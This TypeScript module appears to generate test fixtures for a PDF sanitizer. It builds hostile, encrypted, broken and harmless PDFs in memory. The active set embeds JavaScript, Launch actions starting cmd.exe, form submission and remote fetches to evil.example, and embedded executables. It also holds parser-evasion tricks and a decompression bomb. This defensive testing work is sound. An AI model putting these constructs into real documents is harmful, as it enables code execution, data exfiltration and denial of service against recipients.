/** A corpus of PDFs, hostile and harmless, made from nothing. */
import { deflateSync } from 'node:zlib';
import { AFRelationship, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { aPdf, catalog, page, pages, pdfOf, stream, tableOf } from './pdfs.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const withCatalog = (more: string, ...others: string[]) => pdfOf([catalog(more), pages, page(), ...others]);
const withPage = (more: string, ...others: string[]) => pdfOf([catalog(), pages, page(more), ...others]);
const withLink = (action: string) =>
  withPage('/Annots [4 0 R]', `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`);
const withAnnotation = (annotation: string, ...others: string[]) =>
  withPage(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`, ...others);

/** The table of the file says that object 4 stands where the text first stands, wherever that is. */
function pointingAt(file: Buffer, text: string): Buffer {
  const body = file.toString('latin1');
  const objects = [1, 2, 3].map((n) => body.indexOf(`${n} 0 obj`));
  const before = body.slice(0, body.indexOf('xref\n'));
  return Buffer.from(before + tableOf(before.length, [...objects, body.indexOf(text)]), 'latin1');
}
const hidden = `4 0 obj ${script} endobj`;
const opened = catalog('/OpenAction 4 0 R');
const link = '<< /S /URI /URI (https://evil.example) >>';

/** Objects inside a compressed stream, as newer programs write them. */
const objectStream = (objects: readonly string[], dict = '/Filter /FlateDecode', pack = deflateSync) => {
  const header = objects.map((_, i) => `${40 + i} ${objects.slice(0, i).join(' ').length + (i && 1)}`).join(' ');
  const data = pack(Buffer.from(`${header} ${objects.join(' ')}`, 'latin1')).toString('latin1');
  return stream(data, `/Type /ObjStm /N ${objects.length} /First ${header.length + 1} ${dict}`);
};
const asIs = ((data: Buffer) => data) as unknown as typeof deflateSync;
const asHex = ((data: Buffer) => Buffer.from(`${data.toString('hex')}>`)) as unknown as typeof deflateSync;

async function written(work: (pdf: PDFDocument) => unknown, options = {}): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([300, 200]).drawText('Delivered.');
  await work(pdf);
  return Buffer.from(await pdf.save(options));
}

type Corpus = Readonly<Record<string, Buffer | Promise<Buffer>>>;

/** What could act by itself. */
export const active: Corpus = {
  'a script when it is opened': withCatalog(`/OpenAction ${script}`),
  'a script among the names': withCatalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  'a script when a page is shown': withPage(`/AA << /O ${script} >>`),
  'a script when a field is typed into': withAnnotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >>`),
  'a script behind a link': withLink(script),
  'a script in a stream': withLink('<< /S /JavaScript /JS 5 0 R >>'),
  'a script under an escaped name': withLink('<< /S /J#61va#53cript /#4AS (x) >>'),
  'a script after an action without harm': withLink(`<< /S /URI /URI (https://a.example) /Next ${script} >>`),
  'a script of a playing film': withAnnotation('/Subtype /Screen /A << /S /Rendition /OP 0 /JS (x) >>'),
  'a script in a form of the other kind': withCatalog('/AcroForm << /Fields [] /XFA (<xdp/>) >>'),
  'a script inside a compressed stream': withCatalog('', objectStream(['<< /a 1 >>', script])),
  'a script inside a plain stream of objects': withCatalog('', objectStream([script], '', asIs)),
  'a script inside a stream of objects of no type': pdfOf([
    catalog(),
    pages,
    page(),
    objectStream([script]).replace('/Type /ObjStm', ''),
  ]),
  'a script written by a program': written((pdf) => pdf.addJavaScript('a', 'app.alert(1)')),
  'a script written by a program, not compressed': written((pdf) => pdf.addJavaScript('a', 'app.alert(1)'), {
    useObjectStreams: false,
  }),
  'a script that a later revision covers': Buffer.concat([
    withCatalog(`/OpenAction ${script}`),
    Buffer.from(`1 0 obj\n${catalog()}\nendobj\n`),
    aPdf().subarray(-200),
  ]),
  'a script in a comment': pointingAt(pdfOf([opened, pages, page(), `% ${hidden}\nnull`]), hidden),
  'a script in a string': pointingAt(pdfOf([opened, pages, page(), `(${hidden})`]), hidden),
  'a script in the data of a picture': pointingAt(pdfOf([opened, pages, page(), stream(hidden)]), hidden),
  'a script after brackets that do not match': withLink('<< /A [ >> ] /K >> /S /JavaScript /JS (x) >>'),
  'a script after a stream inside a record': withLink('<< /A << >> stream\nendstream /S /JavaScript /JS (x) >>'),
  'a program to start': withLink('<< /S /Launch /Win << /F (cmd.exe) >> >>'),
  'a program to start when it is opened': withCatalog('/OpenAction << /S /Launch /F (a.exe) >>'),
  'a form that is sent elsewhere': withLink('<< /S /SubmitForm /F (https://evil.example) >>'),
  'data that are fetched': withLink('<< /S /ImportData /F (a.fdf) >>'),
  'a jump into another file': withLink('<< /S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit] >>'),
  'a jump into a file inside': withLink('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
  'a file among the names': written((pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'a/b' })),
  'a file that belongs to it': written((pdf) =>
    pdf.attach(Buffer.from('<x/>'), 'a.xml', { afRelationship: AFRelationship.Data }),
  ),
  'a file pinned to a page': withAnnotation('/Subtype /FileAttachment /FS << /F (a.exe) >>'),
  'a file without a type': withCatalog('/AF [<< /F (a.exe) /EF << /F 4 0 R >> >>]', stream('MZ')),
  'a web page that opens with it': withCatalog('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  'a web page that opens with it, told elsewhere': pdfOf([opened, pages, page(), link]),
  'a web page that opens with it, inside a compressed stream': withCatalog('/OpenAction 40 0 R', objectStream([link])),
  'a web page that opens after a place': withCatalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${link} >>`),
  'a web page that opens with it, beside a place': Buffer.concat([
    pdfOf([opened, pages, page(), '<< /S /GoTo /D [3 0 R /Fit] >>']),
    Buffer.from(`4 0 obj\n${link}\nendobj\n`),
    aPdf().subarray(-200),
  ]),
  'a print that begins with it': withCatalog('/OpenAction << /S /Named /N /Print >>'),
  'a web page that opens when a page is shown': withPage(`/AA << /O ${link} >>`),
  'a web page that opens when a page is shown, told elsewhere': withPage('/AA 4 0 R', `<< /O ${link} >>`),
  'an article of another file': withLink('<< /S /Thread /F (//evil.example/a.pdf) /D 0 >>'),
  'an article of another file, told elsewhere': withPage(
    '/Annots [4 0 R]',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 5 0 R /F (//evil.example/a) /D 0 >> >>',
    '/Thread',
  ),
  'a film of the old kind': withAnnotation('/Subtype /Movie /Movie << /F (https://evil.example/a.mov) >>'),
  'a sound that is fetched': withLink('<< /S /Sound /Sound 5 0 R >>'),
  'a file that is fetched': withCatalog('/Extra << /Type /Filespec /FS /URL /F (https://evil.example) >>'),
  'a file that is fetched, of no type': withCatalog('/Extra << /FS /URL /F (https://evil.example) >>'),
  'a page of another file': withPage(
    '/Resources << /XObject << /X 4 0 R >> >>',
    stream('', '/Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil.example/a.pdf) /Page 0 >>'),
  ),
  'a picture of another file': withPage(
    '/Resources << /XObject << /X 4 0 R >> >>',
    stream('', '/Subtype /Form /BBox [0 0 9 9] /OPI << /1.3 << /F (//evil.example/a.tif) >> >>'),
  ),
  'a film with a player': withAnnotation('/Subtype /RichMedia /RichMediaContent << >>'),
};

/** What is locked. */
export const encrypted: Corpus = {
  'a password to open it': written((pdf) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
  'a password to change it': written((pdf) => pdf.encrypt({ userPassword: '', ownerPassword: 'b' })),
  'a lock under an escaped name': pdfOf([catalog(), pages, page()], {
    trailer: '/#45ncrypt << /Filter /Standard /V 1 /R 2 >>',
  }),
};

/** What is no PDF, is damaged, or is made to wear us out. */
export const broken: Corpus = {
  'a picture': Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
  'a web page': Buffer.from('<html><script>alert(1)</script></html>'),
  'an archive': Buffer.from('PK\x03\x04 [Content_Types].xml', 'latin1'),
  'one byte': Buffer.from('%'),
  'a beginning alone': Buffer.from('%PDF-1.7\n'),
  'a beginning and an end': Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF\n'),
  'a file cut in half': aPdf().subarray(0, 300),
  'a file whose beginning comes late': Buffer.concat([Buffer.alloc(1_030, 32), aPdf()]),
  'a web page before its beginning': Buffer.concat([Buffer.from('<html><script>alert(1)</script>\n'), aPdf()]),
  'an archive before its beginning': Buffer.concat([Buffer.from('PK\x03\x04aaaa', 'latin1'), aPdf()]),
  'no pages': pdfOf([catalog(), '<< /Type /Pages /Kids [] /Count 0 >>']),
  'no page tree': pdfOf(['<< /Type /Catalog >>']),
  'a page tree that holds itself': pdfOf([catalog(), '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  'nests without end': withCatalog('['.repeat(400_000)),
  'a stream that swells a thousandfold': withCatalog('', objectStream([' '.repeat(140 * 1_048_576)])),
  'objects packed in an unusual way': withCatalog('', objectStream([script], '/Filter /ASCIIHexDecode', asHex)),
  'objects packed as another object says': withCatalog('', objectStream([script], '/Filter 5 0 R'), '/FlateDecode'),
  'objects of a kind that another object says': withCatalog(
    '',
    objectStream([script]).replace('/ObjStm', '5 0 R').replace('/N 1', ''),
    '/ObjStm',
  ),
  'objects that are damaged': withCatalog('', objectStream(['<< /a 1 >>'], '/Filter /FlateDecode', asIs)),
};

/** What may be kept. */
export const harmless: Corpus = {
  'one page': aPdf(),
  'several pages, a name and a form': written((pdf) => {
    pdf.setTitle('Łukasz Nowak – Zażółć gęślą jaźń');
    pdf.setKeywords(['JavaScript', '/Launch']);
    for (let i = 0; i < 12; i += 1) pdf.addPage([300, 200]).drawText(`Page ${i} of /JavaScript and /EmbeddedFile`);
    const field = pdf.getForm().createTextField('name');
    field.addToPage(pdf.getPage(1));
    field.setText('Lukasz');
    pdf.getForm().createCheckBox('agreed').addToPage(pdf.getPage(2));
  }),
  'the same, not compressed': written(
    (pdf) => {
      pdf.setAuthor('Łukasz');
      pdf.getForm().createTextField('Łukasz').addToPage(pdf.getPage(0));
    },
    { useObjectStreams: false },
  ),
  'a link to a web page': withLink('<< /S /URI /URI (https://example.com/docs/JavaScript) >>'),
  'a link to a web page, compressed': written((pdf) =>
    pdf.getPage(0).node.set(
      PDFName.of('Annots'),
      pdf.context.obj([
        {
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [0, 0, 9, 9],
          A: { S: 'URI', URI: PDFString.of('https://example.com/Launch') },
        },
      ]),
    ),
  ),
  'a page that it opens at': withCatalog('/OpenAction [3 0 R /Fit]'),
  'a page that it opens at, by an action': withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
  'a page that it opens at, told elsewhere, and a link': pdfOf([
    opened,
    pages,
    page('/Annots [5 0 R]'),
    '<< /S /GoTo /D [3 0 R /Fit] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${link} >>`,
  ]),
  'a page that it opens at, inside a compressed stream': withCatalog(
    '/OpenAction 41 0 R',
    objectStream([link, '<< /D [3 0 R /Fit] /S /GoTo >>']),
  ),
  'articles, a structure with references and a resource of an odd name': pdfOf([
    catalog('/Threads [4 0 R] /StructTreeRoot << /Type /StructTreeRoot /K << /S /Note /Ref [5 0 R] >> >>'),
    pages,
    page('/Resources << /ProcSet [/PDF /AA /FS] >>'),
    '<< /Type /Thread /F 5 0 R >>',
    '<< /T 4 0 R /P 3 0 R /R [0 0 9 9] >>',
  ]),
  'a jump within': withLink('<< /S /GoTo /D [3 0 R /Fit] >>'),
  'a later revision': Buffer.concat([
    aPdf(),
    Buffer.from('3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] >>\nendobj\n'),
    aPdf().subarray(-180),
  ]),
  'a few bytes before it': Buffer.concat([Buffer.from('\r\n\r\n'), aPdf()]),
  'a filled up last block': Buffer.concat([aPdf(), Buffer.alloc(3_000)]),
  'words that are only words': aPdf('The keys /JS /JavaScript /Launch \\(/XFA\\) 4 0 obj'.replace('4 0 obj', 'object')),
};
